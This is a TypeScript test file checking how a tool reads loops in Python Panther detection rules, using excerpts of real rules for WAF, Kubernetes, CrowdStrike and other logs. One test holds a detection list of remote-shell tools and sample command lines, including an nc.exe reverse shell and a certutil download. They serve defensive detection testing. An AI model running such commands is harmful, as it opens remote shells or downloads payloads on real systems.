/**
 * Golden tests of loops and comprehensions on excerpts of real Panther rules (panther-analysis), checked by hand
 * against their source files.
 */
import { describe, expect, it } from 'vitest';
import { PANTHER_FIXTURES, pantherRule } from './panther-rule.ts';
import { extractPython, POLICY } from '../../src/lib/languages/python/extract.ts';
import { pantherLibrary } from '../../src/lib/formats/panther/python-library.ts';
import { renderConjuncts } from '../../src/lib/logic/render.ts';
import { conjunctsOf } from '../../src/lib/logic/tree.ts';


const extract = (src: string) => pantherRule(src, ['AWS.WAFWebACL'], { options: { nullness: 'python' } });

const lines = (...l: string[]) => `${l.join('\n')}\n`;

describe('python loops: iterables computed by helpers', () => {
  // global_helpers/panther_aws_helpers.py and rules/aws_waf_rules/aws_waf_managed_anti_ddos.py
  const waf = lines(
    'def _waf_normalize_groups(rule_groups):',
    '    if isinstance(rule_groups, str):',
    '        return [rule_groups]',
    '    return rule_groups',
    '',
    'def _waf_matches_any_group(value, rule_groups):',
    '    return any(group in value for group in rule_groups)',
    '',
    'def _waf_rule_group_has_match(group):',
    '    terminating = group.get("terminatingRule") or {}',
    '    if terminating.get("ruleId"):',
    '        return True',
    '    for match in group.get("nonTerminatingMatchingRules", []) or []:',
    '        if match.get("ruleId"):',
    '            return True',
    '    return False',
    '',
    'def waf_rule_group_matches(event, rule_groups):',
    '    rule_groups = _waf_normalize_groups(rule_groups)',
    '    if _waf_matches_any_group(event.get("terminatingRuleId", ""), rule_groups):',
    '        return True',
    '    for matching_rule in event.get("nonTerminatingMatchingRules", []) or []:',
    '        if _waf_matches_any_group(matching_rule.get("ruleId", ""), rule_groups):',
    '            return True',
    '    for group in event.get("ruleGroupList", []) or []:',
    '        if not _waf_matches_any_group(group.get("ruleGroupId", ""), rule_groups):',
    '            continue',
    '        if _waf_rule_group_has_match(group):',
    '            return True',
    '    return False',
    '',
    'RULE_GROUP = "AWSManagedRulesAntiDDoSRuleSet"',
    '',
    'def rule(event):',
    '    return waf_rule_group_matches(event, RULE_GROUP)',
  );

  it('walks the list a helper returns once its branch is decided (aws_waf_managed_anti_ddos)', () => {
    const r = extract(waf);
    expect(r.reasons).toEqual([]);
    expect(r.lines).toEqual([
      'terminatingRuleId contains "AWSManagedRulesAntiDDoSRuleSet" or nonTerminatingMatchingRules.ruleId contains "AWSManagedRulesAntiDDoSRuleSet" or ' +
        'any ruleGroupList (ruleGroupId contains "AWSManagedRulesAntiDDoSRuleSet" and ((terminatingRule is_not_null and terminatingRule.ruleId is_not_null) or nonTerminatingMatchingRules.ruleId is_not_null))',
    ]);
    // The group that names the rule set must itself hold the match (the test "Different rule group - no alert").
    const split = { ruleGroupList: [{ ruleGroupId: 'AWS#AWSManagedRulesAntiDDoSRuleSet', terminatingRule: null }, { ruleGroupId: 'Other', terminatingRule: { ruleId: 'X' } }] };
    expect(r.alerts(split)).toBe(false);
    expect(r.alerts({ ruleGroupList: [{ ruleGroupId: 'AWS#AWSManagedRulesAntiDDoSRuleSet', nonTerminatingMatchingRules: [{ ruleId: 'Y' }] }] })).toBe(true);
  });
});

describe('python loops: a list that depends on the log type', () => {
  // rules/kubernetes_rules/k8s_role_pod_exec.py, with event.udm("requestObject") spelled out per log type as the
  // data models map it.
  const podExec = lines(
    'def rule(event):',
    '    if event.get("p_log_type") == "Amazon.EKS.Audit":',
    '        request = event.get("requestObject")',
    '    else:',
    '        request = event.deep_get("protoPayload", "request")',
    '    request_object = request or {}',
    '    rules = request_object.get("rules") or []',
    '    for rule_entry in rules:',
    '        resources = rule_entry.get("resources") or []',
    '        if "pods/exec" in resources:',
    '            return True',
    '    return False',
  );

  it('reads the loop once per list (k8s_role_pod_exec)', () => {
    const r = extract(podExec);
    expect(r.reasons).toEqual([]);
    expect(r.lines.at(-1)).toBe(
      '(p_log_type eq "Amazon.EKS.Audit" and requestObject.rules.resources contains "pods/exec") or (not p_log_type eq "Amazon.EKS.Audit" and protoPayload.request.rules.resources contains "pods/exec")',
    );
    const eks = (resources: string[]) => ({ p_log_type: 'Amazon.EKS.Audit', requestObject: { rules: [{ resources: ['pods'] }, { resources }] } });
    expect(r.alerts(eks(['pods/exec']))).toBe(true);
    expect(r.alerts(eks(['pods/log']))).toBe(false);
    expect(r.alerts({ p_log_type: 'GCP.AuditLog', protoPayload: { request: { rules: [{ resources: ['pods/exec'] }] } } })).toBe(true);
    expect(r.alerts({ p_log_type: 'GCP.AuditLog', requestObject: { rules: [{ resources: ['pods/exec'] }] } })).toBe(false);
  });
});

describe('python loops: long constant lists', () => {
  // rules/aws_vpc_flow_rules/aws_dns_crypto_domain.py loops over panther_iocs.CRYPTO_MINING_DOMAINS (251 domains).
  const domains = Array.from({ length: 251 }, (_, i) => `pool${i}.example`);
  const crypto = (strip: string) =>
    lines(
      `CRYPTO_MINING_DOMAINS = [${domains.map((d) => JSON.stringify(d)).join(', ')}]`,
      '',
      'def rule(event):',
      '    query_name = event.get("query_name")',
      '    if not query_name:',
      '        return False',
      '    for domain in CRYPTO_MINING_DOMAINS:',
      `        if query_name${strip}.endswith(domain):`,
      '            return True',
      '    return False',
    );

  it('reads a test of each item as one leaf over all the values (aws_dns_crypto_domain)', () => {
    const r = extract(crypto(''));
    expect(r.reasons).toEqual([]);
    expect(r.lines).toEqual([`query_name endswith [${domains.map((d) => JSON.stringify(d)).join(', ')}]`]);
    expect(r.alerts({ query_name: 'a.pool250.example' })).toBe(true);
    expect(r.alerts({ query_name: 'a.pool251.example' })).toBe(false);
  });

  it('reads rstrip(".") as a step of the value, not as the value itself: the tests send trailing dots on purpose', () => {
    const r = extract(crypto('.rstrip(".")'));
    expect(r.reasons).toEqual([]);
    expect(r.lines[1]).toMatch(/^query_name\.rstrip\("\."\) endswith \["pool0\.example", /);
    expect(r.alerts({ query_name: 'a.pool250.example.' })).toBe(true);
    expect(r.alerts({ query_name: 'a.pool250.example.x' })).toBe(false);
    expect(r.alerts({ query_name: 'a.pool251.example.' })).toBe(false);
  });
});

describe('python loops: lists chosen by an event value', () => {
  it('walks the constant list a dict gives for a split part of a field (crowdstrike_reverse_shell_tool_executed)', () => {
    const r = extract(
      lines(
        'REMOTE_SHELL_TOOLS = {',
        '    "nc.exe": ["cmd.exe", "powershell.exe", "command.exe"],',
        '    "certutil.exe": ["-urlcache"],',
        '}',
        '',
        'def rule(event):',
        '    if event.get("fdr_event_type", "") == "ProcessRollup2":',
        '        process_name = event.deep_get("event", "ImageFileName", default="").lower().split("\\\\")[-1]',
        '        command_line = event.deep_get("event", "CommandLine", default="")',
        '        signatures = REMOTE_SHELL_TOOLS.get(process_name, [])',
        '        for signature in signatures:',
        '            if signature in command_line:',
        '                return True',
        '    return False',
      ),
    );
    expect(r.reasons).toEqual([]);
    const event = (image: string, cmd: string) => ({ fdr_event_type: 'ProcessRollup2', event: { ImageFileName: image, CommandLine: cmd } });
    expect(r.alerts(event('C:\\Tools\\NC.EXE', 'nc.exe -e cmd.exe 10.0.0.1'))).toBe(true);
    expect(r.alerts(event('C:\\Tools\\nc.exe', 'nc.exe -l 8080'))).toBe(false);
    expect(r.alerts(event('certutil.exe', 'certutil -urlcache -f http://x'))).toBe(true);
    expect(r.alerts(event('other.exe', 'cmd.exe'))).toBe(false);
  });

  it('reads any() over a list under a key chosen by the event type (openai_api_key_anomalous_activity)', () => {
    const r = extract(
      lines(
        'ELEVATED_SCOPES = {"all", "admin"}',
        '',
        'def rule(event):',
        '    if event.get("type") not in ["api_key.created", "api_key.updated"]:',
        '        return False',
        '    field = "api_key_created" if event.get("type") == "api_key.created" else "api_key_updated"',
        '    scopes = event.deep_get(field, "data", "scopes", default=[])',
        '    return any(scope.lower() in {s.lower() for s in ELEVATED_SCOPES} for scope in scopes if scope)',
      ),
    );
    expect(r.reasons).toEqual([]);
    expect(r.lines.at(-1)).toBe(
      '(type eq "api_key.created" and any api_key_created.data.scopes (. in ["all", "admin"])) or (not type eq "api_key.created" and any api_key_updated.data.scopes (. in ["all", "admin"]))',
    );
    expect(r.alerts({ type: 'api_key.updated', api_key_updated: { data: { scopes: ['read', 'Admin'] } } })).toBe(true);
    expect(r.alerts({ type: 'api_key.updated', api_key_created: { data: { scopes: ['admin'] } } })).toBe(false);
    expect(r.alerts({ type: 'api_key.created', api_key_created: { data: { scopes: ['read', null] } } })).toBe(false);
  });
});

describe('python loops: lists collected in a loop', () => {
  // rules/kubernetes_rules/k8s_pod_dangerous_capabilities.py, with event.udm("containers") as one field.
  const caps = (extra = '') =>
    lines(
      'from panther_base_helpers import deep_get',
      'DANGEROUS_CAPABILITIES = {"SYS_ADMIN", "NET_ADMIN", "BPF"}',
      '',
      'def has_dangerous_capabilities(containers):',
      '    if not containers:',
      '        return []',
      '    dangerous_caps_found = []',
      '    for container in containers:',
      '        added_caps = deep_get(container, "securityContext", "capabilities", "add", default=[])',
      '        if added_caps:',
      '            dangerous = set(added_caps) & DANGEROUS_CAPABILITIES',
      '            if dangerous:',
      '                dangerous_caps_found.extend(list(dangerous))',
      extra,
      '    return dangerous_caps_found',
      '',
      'def rule(event):',
      '    containers = event.deep_get("requestObject", "spec", "containers") or []',
      '    dangerous_caps = has_dangerous_capabilities(containers)',
      '    if dangerous_caps:',
      '        return True',
      '    return False',
    );

  it('reads the truth of the collected list as "some item adds to it" (k8s_pod_dangerous_capabilities)', () => {
    const r = extract(caps());
    expect(r.reasons).toEqual([]);
    expect(r.lines).toEqual(['requestObject.spec.containers.securityContext.capabilities.add contains ["SYS_ADMIN", "NET_ADMIN", "BPF"]']);
    const pod = (...add: string[][]) => ({ requestObject: { spec: { containers: add.map((a) => ({ securityContext: { capabilities: { add: a } } })) } } });
    expect(r.alerts(pod(['CHOWN'], ['NET_ADMIN']))).toBe(true);
    expect(r.alerts(pod(['CHOWN'], []))).toBe(false);
  });

  it('leaves a list it also reads inside the loop to the plain reading', () => {
    const r = extract(caps('        if len(dangerous_caps_found) > 3:\n            dangerous_caps_found.append("many")'));
    expect(r.reasons).toEqual(['loop over containers']);
  });
});

describe('python loops: what the body sets', () => {
  it('lets the returning branch set a module flag that no item reads (aws_snapshot_made_public)', () => {
    const r = extract(
      lines(
        'IS_SINGLE_USER_SHARE = False',
        '',
        'def rule(event):',
        '    items = event.deep_get("requestParameters", "createVolumePermission", "add", "items", default=[])',
        '    for item in items:',
        '        if item.get("userId") or item.get("group") == "all":',
        '            global IS_SINGLE_USER_SHARE',
        '            IS_SINGLE_USER_SHARE = "userId" in item',
        '            return True',
        '    return False',
      ),
    );
    expect(r.reasons).toEqual([]);
    expect(r.lines).toEqual(['any requestParameters.createVolumePermission.add.items (userId is_not_null or group eq "all")']);
  });

  it('keeps a counter that the next item reads out of the item reading', () => {
    const r = extract(lines('def rule(event):', '    n = 0', '    for item in event.get("items", []):', '        n = n + 1', '        if n > 2 and item.get("a"):', '            return True', '    return False'));
    expect(r.reasons).toEqual(['loop over event values']);
  });

  it('fills a list from a loop over constants with append (osquery_linux_logins_non_office)', () => {
    const r = extract(
      lines(
        'OFFICE = ["a", "b"]',
        '',
        'def rule(event):',
        '    found = []',
        '    for office in OFFICE:',
        '        found.append(event.get("host") == office)',
        '    return not any(found)',
      ),
    );
    expect(r.reasons).toEqual([]);
    expect(r.lines).toEqual(['not host in ["a", "b"]']);
  });
});

describe('python comprehensions over constants filtered by the event', () => {
  // rules/standard_rules/malicious_sso_dns_lookup.py
  const sso = lines(
    'COMPANY_NAME = "acme"',
    'FAKE_KEYWORDS = ["sso", "okta"]',
    'ALLOWED_DOMAINS = [".okta.com"]',
    '',
    'def rule(event):',
    '    for domain in event.get("p_any_domain_names", []):',
    '        domain_was_allowed = [x for x in ALLOWED_DOMAINS if domain.lower().endswith(x)]',
    '        if domain_was_allowed:',
    '            continue',
    '        if COMPANY_NAME in domain.lower():',
    '            fake_matches = [x for x in FAKE_KEYWORDS if x in domain.lower()]',
    '            if fake_matches:',
    '                return True',
    '    return False',
  );

  it('keeps each constant under its own test: the list is not empty when some test holds (malicious_sso_dns_lookup)', () => {
    const r = extract(sso);
    expect(r.reasons).toEqual([]);
    expect(r.lines).toEqual(['any p_any_domain_names (not . endswith ".okta.com" and . contains "acme" and . contains ["sso", "okta"])']);
    expect(r.alerts({ p_any_domain_names: ['example.com', 'acme-SSO.net'] })).toBe(true);
    expect(r.alerts({ p_any_domain_names: ['acme-sso.okta.com'] })).toBe(false);
    expect(r.alerts({ p_any_domain_names: ['acme.net', 'sso.net'] })).toBe(false);
  });

  it('reads membership and length of such a list', () => {
    const member = extract(lines('NAMES = ["a", "b"]', 'def rule(event):', '    kept = [n for n in NAMES if event.get(n)]', '    return "b" in kept'));
    expect(member.lines).toEqual(['b is_not_null']);
    const counted = extract(lines('NAMES = ["a", "b"]', 'def rule(event):', '    return len([n for n in NAMES if event.get(n)]) == 2'));
    expect(counted.lines).toEqual(['a is_not_null', 'b is_not_null']);
  });
});

describe('python loops that return the item they find', () => {
  // global_helpers/panther_gsuite_helpers.py gsuite_details_lookup, as data_models/gsuite_data_model.py uses it
  // (standard_brute_force_by_ip reads it through event.udm("event_type")).
  const lookup = (use: string) =>
    lines(
      'def details_lookup(detail_type, detail_names, event):',
      '    for details in event.get("events", []):',
      '        if details.get("type") == detail_type and details.get("name") in detail_names:',
      '            return details',
      '    return {}',
      '',
      'def rule(event):',
      `    ${use}`,
    );

  it('reads the truth of the item found: some item matches, as it holds the key tested (gsuite_details_lookup)', () => {
    const r = extract(lookup('return bool(details_lookup("login", ["login_failure"], event))'));
    expect(r.reasons).toEqual([]);
    expect(r.lines).toEqual(['any events (type eq "login" and name eq "login_failure")']);
    expect(r.alerts({ events: [{ type: 'login', name: 'login_success' }, { type: 'admin', name: 'login_failure' }] })).toBe(false);
    expect(r.alerts({ events: [{ type: 'login', name: 'login_failure' }] })).toBe(true);
  });

  it('says what it cannot state: a field of the item found', () => {
    const r = extract(lookup('return details_lookup("login", ["login_failure"], event).get("id") == "x"'));
    expect(r.reasons).toEqual(['loop over event values: the first matching item']);
  });
});

describe('python any() / all() of a list', () => {
  it('reads not all(list) as "some item is falsy" (aws_cloudtrail_event_selectors_disabled)', () => {
    const r = extract(
      lines(
        'def rule(event):',
        '    includes = event.deep_walk("requestParameters", "eventSelectors", "includeManagementEvents")',
        '    if includes is None:',
        '        includes = []',
        '    return not all(includes)',
      ),
    );
    expect(r.reasons).toEqual([]);
    expect(r.lines).toEqual(['any requestParameters.eventSelectors.includeManagementEvents (. is_null)']);
    const selectors = (...v: boolean[]) => ({ requestParameters: { eventSelectors: v.map((x) => ({ includeManagementEvents: x })) } });
    expect(r.alerts(selectors(true, false))).toBe(true);
    expect(r.alerts(selectors(true, true))).toBe(false);
    expect(r.alerts({ requestParameters: {} })).toBe(false);
  });

  it('reads any() of constants kept under tests', () => {
    const r = extract(lines('NAMES = ["a", "b"]', 'def rule(event):', '    return any([event.get(n) == 1 for n in NAMES if event.get("kind") == n])'));
    expect(r.lines).toEqual(['(kind eq "a" and a eq 1) or (kind eq "b" and b eq 1)']);
  });
});

describe('python loops over the items of a constant dict', () => {
  it('unrolls items() of a dict merged from constants (azure_role_assignment_privileged_or_elevated)', () => {
    const r = extract(
      lines(
        'PRIVILEGED = {"8e3af657": "Owner"}',
        'ELEVATED = {"b24988ac": "Contributor"}',
        'ALL_ROLES = {**PRIVILEGED, **ELEVATED}',
        '',
        'def match_role_name(role_def_id, role_mappings):',
        '    if not role_def_id:',
        '        return None',
        '    role_def_id_lower = str(role_def_id).lower()',
        '    for role_id, role_name in role_mappings.items():',
        '        if role_id.lower() in role_def_id_lower:',
        '            return role_name',
        '    return None',
        '',
        'def rule(event):',
        '    return match_role_name(event.get("roleDefinitionId"), ALL_ROLES) is not None',
      ),
    );
    expect(r.reasons).toEqual([]);
    expect(r.lines).toEqual(['roleDefinitionId contains ["8e3af657", "b24988ac"]']);
    expect(r.alerts({ roleDefinitionId: '/providers/Microsoft.Authorization/roleDefinitions/B24988AC' })).toBe(true);
    expect(r.alerts({ roleDefinitionId: '/providers/Microsoft.Authorization/roleDefinitions/acdd72a7' })).toBe(false);
  });
});

describe('python loops over a constant list looked up by an event value', () => {
  it('reads a loop over MAPPINGS[field] per key (aws_iam_policy_role_mapping)', () => {
    const src = lines(
      'POLICY_ROLE_MAPPINGS = {"TestPolicyName": ["TestRole1", "TestRole2"]}',
      '',
      'def policy(resource):',
      '    if resource["PolicyName"] not in POLICY_ROLE_MAPPINGS:',
      '        return True',
      '    roles_attached = [role["RoleName"] for role in resource.get("PolicyRoles", [])]',
      '    for role_needed in POLICY_ROLE_MAPPINGS[resource["PolicyName"]]:',
      '        if role_needed not in roles_attached:',
      '            return False',
      '    return True',
    );
    const r = extractPython(src, 'policy.py', pantherLibrary(PANTHER_FIXTURES, new Map()), [], POLICY);
    expect(r.reasons).toEqual([]);
    expect(renderConjuncts(conjunctsOf(r.condition))).toEqual(['PolicyName eq "TestPolicyName"', 'not (PolicyRoles.RoleName eq "TestRole1" and PolicyRoles.RoleName eq "TestRole2")']);
  });
});
